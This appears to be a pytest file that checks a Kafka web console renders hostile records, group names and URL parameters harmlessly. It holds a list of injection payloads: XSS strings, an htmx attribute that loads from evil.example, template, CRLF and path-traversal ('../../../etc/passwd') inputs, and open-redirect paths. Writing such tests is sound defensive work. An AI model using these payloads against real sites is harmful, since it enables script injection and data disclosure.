"""Names and records of strangers: they are shown as what they are, and do nothing."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from kafka import KafkaConsumer, KafkaProducer, TopicPartition
from kafka.admin import KafkaAdminClient, NewTopic
from kafka.structs import OffsetAndMetadata
from support.console import Console, require_harmless

pytestmark = pytest.mark.clients

PAGE_BYTES_MAX = 400_000

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</pre></textarea></title><svg/onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    '" hx-get="https://evil.example" hx-trigger="load',
    "a\x00b\x1b[31mred\x07\x7f\x9b",
    "photo\u202egnp.exe\u202c\u2066\u200f",
    "line\r\ndata: forged\n\nevent: rows\n",
    "../../../etc/passwd",
    "%3Cscript%3E",
    "\ufeff\u2028\u2029",
    "\U0001d552" * 40,
)
MEGABYTES = 10 << 20


@pytest.fixture(scope="module")
def topic_of_strangers(broker: Any) -> Iterator[str]:
    """Each text as key, value and header; and values that are large."""
    name = "console-hostile"
    with (
        KafkaAdminClient(bootstrap_servers=broker.bootstrap) as admin,
        KafkaProducer(
            bootstrap_servers=broker.bootstrap, max_request_size=2 * MEGABYTES, batch_size=1
        ) as producer,
    ):
        settings = {"max.message.bytes": str(2 * MEGABYTES)}
        admin.create_topics([NewTopic(name, 1, 1, topic_configs=settings)])
        for text in HOSTILE:
            data = text.encode()
            producer.send(name, data, key=data, headers=[(text, data)], partition=0).get(30)
        for value in (b"<b>" * (MEGABYTES // 3), b"\xff" * MEGABYTES, b'["a",' * (MEGABYTES // 5)):
            producer.send(name, value, partition=0).get(60)
        headers = [(f"h{number}", b"x" * 1000) for number in range(1000)]
        producer.send(name, b"many headers", headers=headers, partition=0).get(30)
        yield name


def test_table_of_hostile_records_is_harmless_and_small(
    console: Console, topic_of_strangers: str
) -> None:
    answer = console.get(f"/topics/{topic_of_strangers}/records?seek=oldest")
    require_harmless(answer.html)
    assert len(answer.body) < PAGE_BYTES_MAX
    assert "<script>alert(1)</script>" in answer.page.text
    assert "49" not in answer.page.text.split("{{ 7 * 7 }}")[1][:5]
    for character in "\x00\x1b\x07\x7f\x9b\u202e\u2066\u200f\u2028\ufeff":
        assert character not in answer.html


@pytest.mark.parametrize("way", ["auto", "text", "json", "hex"])
def test_every_hostile_record_is_harmless_and_small(
    console: Console, topic_of_strangers: str, way: str
) -> None:
    for offset in range(len(HOSTILE) + 4):
        path = f"/topics/{topic_of_strangers}/records/0/{offset}?as={way}"
        answer = console.get(path)
        assert answer.status == 200, path
        require_harmless(answer.html)
        assert len(answer.body) < PAGE_BYTES_MAX, path


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_hostile_record_is_saved_as_it_is(
    console: Console, topic_of_strangers: str, number: int
) -> None:
    for what in ("key", "value"):
        saved = console.get(f"/topics/{topic_of_strangers}/records/0/{number}/{what}")
        assert saved.body == HOSTILE[number].encode()
        assert saved.headers["content-type"] == "application/octet-stream"
        assert saved.headers["x-content-type-options"] == "nosniff"


def test_large_value_is_cut_on_the_page_and_saved_whole(
    console: Console, topic_of_strangers: str
) -> None:
    path = f"/topics/{topic_of_strangers}/records/0/{len(HOSTILE)}"
    assert "more are not shown" in console.page(path).text
    assert console.get(f"{path}/value").body == b"<b>" * (MEGABYTES // 3)


def test_hostile_parameters_come_back_harmless(console: Console, topic_of_strangers: str) -> None:
    records = f"/topics/{topic_of_strangers}/records"
    for text in HOSTILE:
        given = quote(text, safe="")
        for path in (
            f"/topics?search={given}",
            f"/groups?search={given}",
            f"/groups/view?id={given}",
            f"/transactions?search={given}",
            f"/transactions/view?id={given}",
            f"/access?search={given}",
            f"/login?next={given}",
            f"/topics/{given}",
            f"/nowhere/{given}",
            f"//evil.example/{given}",
            f"/%5cevil.example/{given}",
            f"{records}?text={given}&key={given}&header={given}",
            f"{records}?where={given}",
            f"{records}?seek=time&time={given[:30]}",
            f"{records}?at={given}",
            f"/topics/{topic_of_strangers}/follow?text={given}",
        ):
            answer = console.get(path)
            assert answer.status in (200, 303, 400, 404), path
            require_harmless(answer.html)
            assert "\u202e" not in answer.page.text


def test_groups_with_hostile_names_are_listed_and_shown(
    console: Console, broker: Any, topic_of_strangers: str
) -> None:
    partition = TopicPartition(topic_of_strangers, 0)
    for text in HOSTILE:
        with KafkaConsumer(bootstrap_servers=broker.bootstrap, group_id=text) as consumer:
            consumer.assign([partition])
            consumer.commit({partition: OffsetAndMetadata(3, "", -1)})
    listed = console.get("/groups")
    require_harmless(listed.html)
    links = [each for each in listed.page.links() if each.startswith("/groups/view?")]
    assert len(links) >= len(HOSTILE)
    for link in links:
        answer = console.get(link)
        assert answer.status == 200, link
        require_harmless(answer.html)
        assert "\u202e" not in answer.page.text


def test_bytes_that_are_no_text_in_an_address_are_refused_or_shown(console: Console) -> None:
    for path in ("/topics?search=%ff%fe", "/groups/view?id=%ed%a0%80", "/topics/%ff", "/%c0%af"):
        assert console.get(path).status in (200, 400, 404)
